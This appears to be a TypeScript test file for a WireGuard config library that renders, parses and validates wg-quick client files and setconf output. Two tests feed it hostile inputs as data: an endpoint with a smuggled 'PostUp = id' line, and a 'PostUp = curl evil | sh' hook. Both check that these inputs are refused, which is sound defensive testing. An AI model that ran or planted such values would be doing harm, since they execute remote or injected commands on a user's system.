import { parseWgQuickConf, renderClientConf, renderSetconf } from './conf';
import { parseCidr, parseEndpoint, parseIpAddress } from './ip';
import { WgPresharedKey, WgPrivateKey, generateKeyPair } from './keys';

const server = generateKeyPair();
const base = {
  address: parseCidr('10.8.0.2/32'),
  serverPublicKey: server.publicKey,
  endpoint: parseEndpoint('198.51.100.2:51820'),
};

describe('renderClientConf', () => {
  it('renders the wg-quick file of API.md with the private key and DNS', () => {
    const client = WgPrivateKey.generate();
    const conf = renderClientConf({ ...base, privateKey: client, dns: [parseIpAddress('1.1.1.1'), parseIpAddress('9.9.9.9')] });
    expect(conf).toBe(
      [
        '[Interface]',
        `PrivateKey = ${client.toBase64()}`,
        'Address = 10.8.0.2/32',
        'DNS = 1.1.1.1, 9.9.9.9',
        '',
        '[Peer]',
        `PublicKey = ${server.publicKey}`,
        'Endpoint = 198.51.100.2:51820',
        'AllowedIPs = 0.0.0.0/0, ::/0',
        'PersistentKeepalive = 25',
        '',
      ].join('\n'),
    );
  });

  it('omits PrivateKey when the key was made on the client, and DNS when there is none', () => {
    const conf = renderClientConf(base);
    expect(conf).not.toMatch(/PrivateKey/);
    expect(conf).not.toMatch(/DNS/);
    expect(conf.startsWith('[Interface]\nAddress = 10.8.0.2/32\n\n[Peer]\n')).toBe(true);
  });

  it('puts a preshared key in the peer section', () => {
    const psk = WgPresharedKey.generate();
    expect(renderClientConf({ ...base, presharedKey: psk })).toContain(`\nPresharedKey = ${psk.toBase64()}\n`);
  });

  it('renders a device\'s own MTU, split-tunnel AllowedIPs and keepalive, and reads them back', () => {
    const conf = renderClientConf({
      ...base, mtu: 1380, allowedIps: [parseCidr('10.0.0.0/8'), parseCidr('fd00::/8')], persistentKeepalive: 0,
    });
    expect(conf).toContain('[Interface]\nAddress = 10.8.0.2/32\nMTU = 1380\n');
    expect(conf).toContain('AllowedIPs = 10.0.0.0/8, fd00::/8\nPersistentKeepalive = 0\n');
    const back = parseWgQuickConf(conf);
    expect(back.interface).toMatchObject({ privateKey: null, mtu: 1380 });
    expect(back.peers[0]).toMatchObject({ allowedIps: ['10.0.0.0/8', 'fd00::/8'], persistentKeepalive: 0 });
  });

  it('leaves PersistentKeepalive out when the device has none', () => {
    expect(renderClientConf({ ...base, persistentKeepalive: null })).not.toMatch(/PersistentKeepalive/);
  });

  it.each([1279, 1501, 1400.5, '1400'])('refuses the MTU %p', (mtu) => {
    expect(() => renderClientConf({ ...base, mtu: mtu as number })).toThrow(/MTU/);
  });

  it('refuses values that were not parsed (brands bypassed with a cast)', () => {
    expect(() => renderClientConf({ ...base, endpoint: '198.51.100.2:51820\nPostUp = id' as never })).toThrow(/endpoint/);
  });
});

describe('parseWgQuickConf', () => {
  it('reads back what renderClientConf wrote', () => {
    const client = WgPrivateKey.generate();
    const psk = WgPresharedKey.generate();
    const conf = parseWgQuickConf(renderClientConf({ ...base, privateKey: client, presharedKey: psk, dns: [parseIpAddress('1.1.1.1')] }));
    expect(conf.interface.privateKey?.equals(client)).toBe(true);
    expect(conf.interface.addresses).toEqual(['10.8.0.2/32']);
    expect(conf.interface.dns).toEqual(['1.1.1.1']);
    expect(conf.peers).toHaveLength(1);
    expect(conf.peers[0]).toMatchObject({ publicKey: server.publicKey, endpoint: '198.51.100.2:51820', allowedIps: ['0.0.0.0/0', '::/0'], persistentKeepalive: 25 });
    expect(conf.peers[0].presharedKey?.equals(psk)).toBe(true);
  });

  it('rejects hooks and unknown keys, naming them', () => {
    expect(() => parseWgQuickConf('[Interface]\nPostUp = curl evil | sh\n')).toThrow(/Interface\.PostUp/);
    expect(() => parseWgQuickConf('[Peer]\nFoo = 1\n')).toThrow(/Peer\.Foo/);
  });

  it('rejects a peer without a public key', () => {
    expect(() => parseWgQuickConf('[Peer]\nAllowedIPs = 10.0.0.0/8\n')).toThrow(/PublicKey/);
  });
});

describe('renderSetconf', () => {
  it('strips the wg-quick fields Address, DNS and MTU', () => {
    const text = renderClientConf({ ...base, privateKey: WgPrivateKey.generate(), dns: [parseIpAddress('1.1.1.1')] });
    const setconf = renderSetconf(parseWgQuickConf(`${text}`));
    expect(setconf).not.toMatch(/Address|DNS|MTU/);
    expect(setconf).toMatch(/^\[Interface\]\nPrivateKey = .{44}\n\n\[Peer\]\nPublicKey = /);
    expect(setconf).toContain('AllowedIPs = 0.0.0.0/0, ::/0\nPersistentKeepalive = 25\n');
  });
});
